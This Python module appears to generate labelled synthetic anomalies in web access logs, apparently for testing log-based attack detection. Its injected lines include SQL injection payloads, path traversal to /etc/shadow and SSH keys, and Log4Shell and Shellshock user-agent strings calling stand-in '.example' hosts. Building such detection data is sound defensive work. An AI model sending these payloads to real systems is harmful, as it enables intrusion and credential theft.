"""Puts odd lines into an access log, each made of a line of that log, at random places, with a fixed seed."""

import random
import re
from collections.abc import Callable
from dataclasses import dataclass

_LINE = re.compile(
    r'(?P<start>\S+ - - \[[^]]+\] )"(?P<method>\S+) (?P<path>\S+) (?P<version>[^"]+)" '
    r'(?P<status>\d+) (?P<size>\d+) "(?P<referrer>[^"]*)" "(?P<agent>[^"]*)"'
)
_TABLES = ("users", "orders", "accounts", "sessions", "invoices")
_FILES = ("etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "windows/win.ini")
_WORDS = ("river", "stone", "lantern", "winter", "copper")


@dataclass(frozen=True)
class OddLog:
    """A log and, of each line, the kind of odd line that it is, or None."""

    lines: list[str]
    kinds: list[str | None]


def with_odd_lines(lines: list[str], first: int, number: int, seed: int) -> OddLog:
    """Adds so many odd lines of each kind after the first lines."""
    chance, places = random.Random(seed), range(first, len(lines))
    added: dict[int, list[tuple[str, str]]] = {}
    for kind, make in _KINDS.items():
        for place in chance.sample(places, number):
            added.setdefault(place, []).append((kind, make(chance, lines[place])))
    found: list[tuple[str | None, str]] = []
    for place, line in enumerate(lines):
        found += [(None, line), *added.get(place, [])]
    return OddLog([line for _, line in found], [kind for kind, _ in found])


def _changed(line: str, **fields: str) -> str:
    """Returns a line with some of its fields replaced."""
    match = _LINE.fullmatch(line)
    assert match is not None, f"no line of an access log: {line}"
    of = match.groupdict() | fields
    request = f'"{of["method"]} {of["path"]} {of["version"]}" {of["status"]} {of["size"]}'
    return f'{of["start"]}{request} "{of["referrer"]}" "{of["agent"]}"'


def _injection(chance: random.Random, line: str) -> str:
    number, table = chance.randrange(1, 100), chance.choice(_TABLES)
    payload = chance.choice(
        (
            f"{chance.choice(_WORDS)}'+OR+{number}={number}--",
            f"-{number}+UNION+SELECT+null,name,pass+FROM+{table}",
            f"1;DROP+TABLE+{table}",
            f"{number}'+AND+SLEEP({chance.randrange(3, 20)})#",
        )
    )
    return _changed(
        line, method="GET", path=f"/api/search?q={payload}&page={chance.randrange(1, 9)}", status="200"
    )


def _traversal(chance: random.Random, line: str) -> str:
    up = chance.choice(("../", "..%2f", "....//")) * chance.randrange(2, 8)
    return _changed(line, method="GET", path=f"/assets/{up}{chance.choice(_FILES)}", status="400")


def _agent(chance: random.Random, line: str) -> str:
    host = f"{chance.choice(_WORDS)}.example/{chance.randrange(10**4)}"
    agent = chance.choice(
        (
            f"${{jndi:ldap://{host}}}",
            f"() {{ :; }}; /bin/bash -c 'curl {host}'",
            f"sqlmap/1.{host[-1]}#stable",
        )
    )
    return _changed(line, agent=agent)


def _failure(chance: random.Random, line: str) -> str:
    """Answers a request that went well before with an error of the server, and nothing else."""
    return _changed(line, status=chance.choice(("500", "502", "504")), size=str(chance.randrange(140, 600)))


def _other_program(chance: random.Random, _line: str) -> str:
    day, number = chance.randrange(1, 29), chance.randrange(300, 30_000)
    port = chance.randrange(30_000, 60_000)
    message = chance.choice(
        (
            f"sshd[{number}]: Failed password for root from 203.0.113.{day} port {port} ssh2",
            f"kernel: [{number}.{port}] Out of memory: Killed process {number} (python)",
            f"CRON[{number}]: (root) CMD (test -x /usr/sbin/anacron)",
        )
    )
    return f"Nov {day:2d} 0{day % 10}:1{day % 6}:2{day % 8} web {message}"


def _garbled(chance: random.Random, line: str) -> str:
    """Speaks another protocol to the port: nginx writes the bytes as escapes."""
    request = "".join(f"\\x{chance.randrange(256):02X}" for _ in range(chance.randrange(6, 20)))
    start = line.partition('"')[0]
    return f'{start}"\\x16\\x03\\x01{request}" 400 150 "-" "-"'


_KINDS: dict[str, Callable[[random.Random, str], str]] = {
    "SQL injection": _injection,
    "path traversal": _traversal,
    "strange agent": _agent,
    "server error": _failure,
    "another program": _other_program,
    "another protocol": _garbled,
}
